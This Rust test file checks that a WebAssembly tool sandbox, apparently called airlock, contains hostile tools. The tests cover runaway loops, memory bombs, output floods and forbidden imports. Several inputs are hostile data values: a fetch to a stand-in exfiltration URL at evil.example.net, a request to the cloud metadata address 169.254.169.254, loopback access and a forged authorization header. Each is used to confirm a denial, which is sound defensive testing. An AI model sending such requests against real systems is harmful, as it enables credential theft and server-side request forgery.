//! The sandbox against real tools and hostile fixtures, through the library API.

use std::sync::OnceLock;

use airlock_manifest::ManifestError;
use airlock_policy::{HostPattern, OperatorPolicy, Route};
use airlock_runtime::{
    InvokeError, LoadError, RequestOutcome, Runtime, RuntimeConfig, Tool, ToolFailure,
};
use airlock_tests::{Upstream, tool_bytes};
use serde_json::{Value, json};

fn runtime() -> &'static Runtime {
    static RUNTIME: OnceLock<Runtime> = OnceLock::new();
    RUNTIME.get_or_init(|| {
        Runtime::new(RuntimeConfig {
            max_concurrent_calls: 16,
            ..Default::default()
        })
        .unwrap()
    })
}

fn load(name: &str, policy: &OperatorPolicy) -> Tool {
    runtime()
        .load(&tool_bytes(name), policy)
        .unwrap_or_else(|e| panic!("loading {name}: {e}"))
}

fn route(from: &str, to: &str) -> Route {
    Route {
        from: HostPattern::parse(from).unwrap(),
        to: HostPattern::parse(to).unwrap(),
    }
}

fn hostile_via(upstream: &Upstream, allow_private: bool) -> Tool {
    let policy = OperatorPolicy {
        allow_private_addresses: allow_private,
        routes: vec![route("https://api.example.com", &upstream.origin())],
        ..Default::default()
    };
    load("hostile", &policy)
}

/// Run `attack` and a healthy call side by side; the healthy one must succeed.
async fn attack_beside_healthy(tool: &Tool, attack: Value) -> airlock_runtime::CallReport {
    let healthy = load("text-stats", &OperatorPolicy::default());
    let attack = attack.to_string();
    let (report, ok) = tokio::join!(
        runtime().invoke(tool, &attack),
        runtime().invoke(&healthy, r#"{"text": "still serving"}"#)
    );
    assert_eq!(
        ok.outcome.expect("the healthy call beside an attack")["words"],
        2
    );
    report
}

fn results(report: &airlock_runtime::CallReport) -> Vec<Value> {
    report.outcome.as_ref().expect("the tool returned")["results"]
        .as_array()
        .unwrap()
        .clone()
}

#[tokio::test]
async fn text_stats_runs_with_real_input() {
    let tool = load("text-stats", &OperatorPolicy::default());
    let report = runtime()
        .invoke(
            &tool,
            r#"{"text": "To be, or not to be.\nThat is it.", "top": 1}"#,
        )
        .await;
    let out = report.outcome.unwrap();
    assert_eq!(out["words"], 9);
    assert_eq!(out["lines"], 2);
    assert_eq!(out["top_words"], json!([{"word": "be", "count": 2}]));
    assert!(report.requests.is_empty());
}

#[tokio::test]
async fn text_stats_reports_typed_input_errors() {
    let tool = load("text-stats", &OperatorPolicy::default());
    let report = runtime()
        .invoke(&tool, r#"{"text": "a", "top": 1000}"#)
        .await;
    assert!(
        matches!(report.outcome, Err(InvokeError::Tool { error: ToolFailure::InvalidInput(m) }) if m.contains("at most 100"))
    );
    let report = runtime().invoke(&tool, r#"{"txt": "a"}"#).await;
    assert!(
        matches!(report.outcome, Err(InvokeError::Tool { error: ToolFailure::InvalidInput(m) }) if m.contains("txt"))
    );
    let report = runtime().invoke(&tool, "not json").await;
    assert!(matches!(
        report.outcome,
        Err(InvokeError::InputNotJson { .. })
    ));
}

#[tokio::test]
async fn exchange_rates_calls_its_declared_api() {
    let upstream = Upstream::start(
        r#"{"amount":1.0,"base":"EUR","date":"2026-11-27","rates":{"USD":1.0512}}"#,
    )
    .await;
    let policy = OperatorPolicy {
        allow_private_addresses: true,
        routes: vec![route("https://api.frankfurter.dev", &upstream.origin())],
        ..Default::default()
    };
    let tool = load("exchange-rates", &policy);
    let report = runtime()
        .invoke(&tool, r#"{"amount": 100, "from": "eur", "to": "usd"}"#)
        .await;
    assert_eq!(
        report.outcome.unwrap(),
        json!({"amount": 105.12, "currency": "USD", "rate": 1.0512, "date": "2026-11-27"})
    );
    let seen = upstream.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].path, "/v1/latest?base=EUR&symbols=USD");
    assert!(seen[0].headers.iter().all(|(k, _)| k != "authorization"));
    assert_eq!(
        report.requests[0].url,
        "https://api.frankfurter.dev/v1/latest"
    );
    assert!(matches!(
        &report.requests[0].outcome,
        RequestOutcome::Sent {
            status: 200,
            routed_to: Some(_),
            credential: None,
            retried: false,
        }
    ));
}

#[tokio::test]
async fn github_issues_declares_grant_and_gets_no_token_without_broker() {
    let upstream = Upstream::start("[]").await;
    let policy = OperatorPolicy {
        allow_private_addresses: true,
        routes: vec![route("https://api.github.com", &upstream.origin())],
        ..Default::default()
    };
    let tool = load("github-issues", &policy);
    let grant = &tool.effective().grants.oauth[0];
    assert_eq!(grant.provider.as_str(), "github");
    assert_eq!(grant.scopes.iter().collect::<Vec<_>>(), ["repo"]);
    let report = runtime().invoke(&tool, r#"{"limit": 5}"#).await;
    assert!(
        matches!(&report.outcome, Err(InvokeError::Tool { error: ToolFailure::Upstream(m) }) if m.contains("HttpRequestDenied"))
    );
    assert!(
        matches!(&report.requests[0].outcome, RequestOutcome::Denied { reason } if reason.contains("identity broker"))
    );
    assert!(
        upstream.requests().is_empty(),
        "nothing may leave without the credential"
    );
}

#[tokio::test]
async fn infinite_loop_is_stopped_at_deadline() {
    let tool = load("hostile", &OperatorPolicy::default());
    let report = attack_beside_healthy(&tool, json!({"attack": "loop"})).await;
    assert_eq!(
        report.outcome.unwrap_err(),
        InvokeError::Timeout { timeout_ms: 1000 }
    );
}

#[tokio::test]
async fn memory_bomb_is_stopped_at_cap() {
    let tool = load("hostile", &OperatorPolicy::default());
    let report = attack_beside_healthy(&tool, json!({"attack": "memory"})).await;
    assert_eq!(
        report.outcome.unwrap_err(),
        InvokeError::MemoryLimit { memory_mib: 32 }
    );
}

#[tokio::test]
async fn deep_recursion_is_stopped() {
    let tool = load("hostile", &OperatorPolicy::default());
    let report = attack_beside_healthy(&tool, json!({"attack": "recurse"})).await;
    assert_eq!(report.outcome.unwrap_err(), InvokeError::StackOverflow);
}

#[tokio::test]
async fn output_flood_is_refused() {
    let tool = load("hostile", &OperatorPolicy::default());
    let report = attack_beside_healthy(&tool, json!({"attack": "flood"})).await;
    assert!(
        matches!(report.outcome, Err(InvokeError::OutputTooLarge { limit: 65536, size }) if size > 4_000_000)
    );
}

#[tokio::test]
async fn undeclared_host_is_denied() {
    let tool = load("hostile", &OperatorPolicy::default());
    let report = attack_beside_healthy(
        &tool,
        json!({"attack": "fetch", "url": "https://evil.example.net/steal"}),
    )
    .await;
    assert_eq!(results(&report)[0]["error"], "Http(\"HttpRequestDenied\")");
    assert!(
        matches!(&report.requests[0].outcome, RequestOutcome::Denied { reason } if reason.contains("evil.example.net"))
    );
}

#[tokio::test]
async fn metadata_address_is_refused_even_when_declared() {
    let tool = load("hostile", &OperatorPolicy::default());
    let report = attack_beside_healthy(
        &tool,
        json!({"attack": "fetch", "url": "http://169.254.169.254/latest/meta-data/"}),
    )
    .await;
    assert_eq!(
        results(&report)[0]["error"],
        "Http(\"DestinationIpProhibited\")"
    );
    assert!(
        matches!(&report.requests[0].outcome, RequestOutcome::Denied { reason } if reason.contains("169.254.169.254"))
    );
}

#[tokio::test]
async fn loopback_after_dns_is_refused_without_switch() {
    let tool = load("hostile", &OperatorPolicy::default());
    let report = attack_beside_healthy(
        &tool,
        json!({"attack": "fetch", "url": "http://localhost:9/"}),
    )
    .await;
    assert_eq!(
        results(&report)[0]["error"],
        "Http(\"DestinationIpProhibited\")"
    );
}

#[tokio::test]
async fn loopback_route_needs_explicit_switch() {
    let upstream = Upstream::start(r#"{"hello": "tool"}"#).await;
    let denied = hostile_via(&upstream, false);
    let report = attack_beside_healthy(
        &denied,
        json!({"attack": "fetch", "url": "https://api.example.com/x"}),
    )
    .await;
    assert_eq!(
        results(&report)[0]["error"],
        "Http(\"DestinationIpProhibited\")"
    );
    assert!(upstream.requests().is_empty());

    let allowed = hostile_via(&upstream, true);
    let report = runtime()
        .invoke(
            &allowed,
            &json!({"attack": "fetch", "url": "https://api.example.com/x"}).to_string(),
        )
        .await;
    assert_eq!(results(&report)[0]["status"], 200);
    assert_eq!(upstream.requests().len(), 1);
}

#[tokio::test]
async fn guest_authorization_header_is_forbidden() {
    let upstream = Upstream::start("{}").await;
    let tool = hostile_via(&upstream, true);
    let report = attack_beside_healthy(
        &tool,
        json!({"attack": "set_authorization", "url": "https://api.example.com/"}),
    )
    .await;
    let error = results(&report)[0]["error"].as_str().unwrap().to_string();
    assert!(error.contains("Forbidden"), "{error}");
    assert!(upstream.requests().is_empty(), "the request must not leave");
}

#[tokio::test]
async fn outbound_request_cap_is_enforced() {
    let upstream = Upstream::start("{}").await;
    let tool = hostile_via(&upstream, true);
    let report = runtime()
        .invoke(
            &tool,
            &json!({"attack": "fetch", "url": "https://api.example.com/", "times": 5}).to_string(),
        )
        .await;
    let results = results(&report);
    assert_eq!(results.iter().filter(|r| r["status"] == 200).count(), 3);
    assert_eq!(results[3]["error"], "Http(\"HttpRequestDenied\")");
    assert_eq!(upstream.requests().len(), 3);
    assert!(
        matches!(&report.requests[4].outcome, RequestOutcome::Denied { reason } if reason.contains("limit of 3"))
    );
}

#[tokio::test]
async fn many_concurrent_calls_get_fresh_instances() {
    let tool = load("text-stats", &OperatorPolicy::default());
    let calls = (0..40).map(|i| {
        let tool = tool.clone();
        async move {
            let text = "w ".repeat(i + 1);
            let out = runtime()
                .invoke(&tool, &json!({ "text": text }).to_string())
                .await
                .outcome
                .unwrap();
            assert_eq!(out["words"], i + 1);
        }
    });
    futures_join_all(calls).await;
}

async fn futures_join_all<F: std::future::Future<Output = ()> + Send + 'static>(
    futs: impl Iterator<Item = F>,
) {
    let handles: Vec<_> = futs.map(tokio::spawn).collect();
    for h in handles {
        h.await.unwrap();
    }
}

#[test]
fn filesystem_importing_tool_is_refused_naming_the_import() {
    let err = runtime()
        .load(&tool_bytes("hostile-fs"), &OperatorPolicy::default())
        .err()
        .unwrap();
    let message = err.to_string();
    assert!(matches!(err, LoadError::Import { .. }));
    assert!(message.contains("wasi:filesystem/preopens"), "{message}");
    assert!(message.contains("no filesystem"), "{message}");
}

/// Load a component written in WAT, with text-stats' manifest (no hosts), and return the refusal.
fn refusal_of(wat: &str) -> String {
    let component = wat::parse_str(wat).unwrap();
    let manifest = airlock_manifest::inspect(&tool_bytes("text-stats"))
        .unwrap()
        .manifest;
    let wasm = airlock_manifest::embed(&component, &manifest).unwrap();
    runtime()
        .load(&wasm, &OperatorPolicy::default())
        .err()
        .expect("the component must be refused")
        .to_string()
}

#[test]
fn sockets_importing_component_is_refused_naming_the_import() {
    let message = refusal_of(r#"(component (import "wasi:sockets/tcp@0.2.0" (instance)))"#);
    assert!(
        message.contains("wasi:sockets/tcp@0.2.0") && message.contains("no sockets"),
        "{message}"
    );
}

#[test]
fn http_import_without_declared_hosts_is_refused() {
    let message =
        refusal_of(r#"(component (import "wasi:http/outgoing-handler@0.2.12" (instance)))"#);
    assert!(
        message.contains("wasi:http/outgoing-handler") && message.contains("declares no hosts"),
        "{message}"
    );
}

#[test]
fn wasm_without_manifest_is_refused() {
    let raw =
        airlock_tests::tools_dir().join("../airlock-wasm/wasm32-wasip2/release/text_stats.wasm");
    let bytes = std::fs::read(&raw).unwrap_or_else(|e| panic!("{}: {e}", raw.display()));
    let err = runtime()
        .load(&bytes, &OperatorPolicy::default())
        .err()
        .unwrap();
    assert!(
        matches!(err, LoadError::Manifest(ManifestError::Missing)),
        "{err}"
    );
    assert!(err.to_string().contains("host build"));
}

#[test]
fn corrupt_wasm_is_refused() {
    let mut bytes = tool_bytes("text-stats");
    let mid = bytes.len() / 2;
    bytes.truncate(mid);
    let err = runtime()
        .load(&bytes, &OperatorPolicy::default())
        .err()
        .unwrap();
    assert!(
        matches!(err, LoadError::Manifest(ManifestError::Corrupt(_))),
        "{err}"
    );
    let err = runtime()
        .load(b"MZ\x90\x00 not wasm at all", &OperatorPolicy::default())
        .err()
        .unwrap();
    assert!(
        matches!(err, LoadError::Manifest(ManifestError::NotWasm)),
        "{err}"
    );
}

#[test]
fn core_module_is_refused() {
    let module = wat::parse_str("(module (func (export \"invoke\")))").unwrap();
    let err = runtime()
        .load(&module, &OperatorPolicy::default())
        .err()
        .unwrap();
    assert!(
        matches!(err, LoadError::Manifest(ManifestError::CoreModule)),
        "{err}"
    );
    assert!(err.to_string().contains("not a component"));
}

#[test]
fn operator_policy_caps_scopes_at_load() {
    let policy =
        OperatorPolicy::from_toml("[providers.github]\nscopes = [\"read:user\"]\n").unwrap();
    let err = runtime()
        .load(&tool_bytes("github-issues"), &policy)
        .err()
        .unwrap();
    let message = err.to_string();
    assert!(matches!(err, LoadError::Policy(_)));
    assert!(
        message.contains("\"repo\"") && message.contains("github-issues"),
        "{message}"
    );
}
